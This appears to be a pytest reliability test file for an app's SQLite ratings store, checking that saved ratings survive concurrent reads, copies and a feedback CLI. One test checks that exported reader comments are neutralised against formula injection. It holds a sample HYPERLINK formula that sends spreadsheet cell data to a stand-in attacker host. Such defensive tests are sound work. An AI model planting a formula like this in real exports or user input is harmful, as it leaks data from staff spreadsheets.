"""Readers' ratings live in the app's own database, and a rating reported saved is saved, while other processes read
and copy that file and `qa feedback` opens and closes it (issue 11: once, a copy of the index's SQLite made inside
the app dropped SQLite's locks, `qa feedback` then deleted the write-ahead log under the app, and ratings were lost)."""
from __future__ import annotations

import csv
import hashlib
import io
import shutil
import subprocess
import sys
import threading
import uuid

import pytest

from conftest import ROOT
from ingest.index import DB_NAME
from qa.feedback import FeedbackStore
from running_app import PageSession, app_db, running_app

pytestmark = pytest.mark.reliability  # `make reliability` runs these
RATINGS = 12


@pytest.fixture(scope="module")
def site(seed_index, tmp_path_factory):
    root = tmp_path_factory.mktemp("feedback-site")
    index = root / "index"
    shutil.copytree(seed_index, index, ignore=shutil.ignore_patterns(".lock"))
    with running_app(index, root / "app.log") as url:
        yield url, root, index


def _reader(db, copies, stop: threading.Event, errors: list) -> None:
    """Another process's reads of the database file: plain reads and copies, as a backup script would make."""
    n = 0
    while not stop.is_set():
        try:
            if db.exists():
                with open(db, "rb") as fh:
                    fh.read()
                shutil.copy(db, copies / f"copy-{n % 3}.sqlite")
                n += 1
        except OSError as exc:  # pragma: no cover - reported below
            errors.append(exc)
        stop.wait(0.01)


def _qa_feedback(db, index) -> str:
    return subprocess.run([sys.executable, "-m", "qa.cli", "feedback", "--csv", "--db", str(db), "--index", str(index)],
                          capture_output=True, text=True, check=True, cwd=ROOT, timeout=120).stdout


def _rate(page: PageSession, question: str) -> str:
    """Ask in ``page`` and rate the answer up, as a reader does; returns what the page said about the rating."""
    answer = page.ask(question)["output"]["data"][0]
    shown = answer[-1]["content"] if isinstance(answer, list) else answer
    rated = page.run("rate", [None] * len(page.dependency("rate")["inputs"]), event_data={"index": 1, "value": shown, "liked": True})
    assert rated["success"], rated
    return str(rated["output"]["data"])


def test_ratings_reported_saved_are_saved_while_others_read_the_file(site, tmp_path):
    url, root, index = site
    db = app_db(root / "app.log")
    index_before = _digest(index / DB_NAME)
    copies = tmp_path / "copies"
    copies.mkdir()
    stop, errors = threading.Event(), []
    reader = threading.Thread(target=_reader, args=(db, copies, stop, errors))
    reader.start()
    saved = []
    try:
        for n in range(RATINGS):
            question = f"Who prepared the report? ({uuid.uuid4().hex[:8]})"
            said = _rate(PageSession(url), question)
            if "is saved" in said:
                saved.append(question)
            if n % 3 == 0:
                assert "created_at" in _qa_feedback(db, index)  # opens and closes the file while the app writes
    finally:
        stop.set()
        reader.join()
    assert not errors
    assert len(saved) == RATINGS  # every rating was reported saved...
    store = FeedbackStore(db)
    kept = {e.question for e in store.entries()}
    store.close()
    assert set(saved) <= kept  # ...and is there, read by another process after all that
    exported = _qa_feedback(db, index)
    assert all(q in exported for q in saved)
    assert _digest(index / DB_NAME) == index_before  # the index, which may be read-only, was not written


def _digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_reader_comment_is_no_formula_in_the_staff_export(site):
    url, root, index = site
    page = PageSession(url)
    question = f"Who prepared the report? ({uuid.uuid4().hex[:8]})"
    assert "is saved" in _rate(page, question)
    formula = '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click for details")'
    commented = page.run("save_comment", [formula, None])
    assert "comment is saved" in str(commented["output"]["data"])
    rows = list(csv.DictReader(io.StringIO(_qa_feedback(app_db(root / "app.log"), index))))
    (row,) = [r for r in rows if r["question"] == question]
    assert row["comment"] == "'" + formula
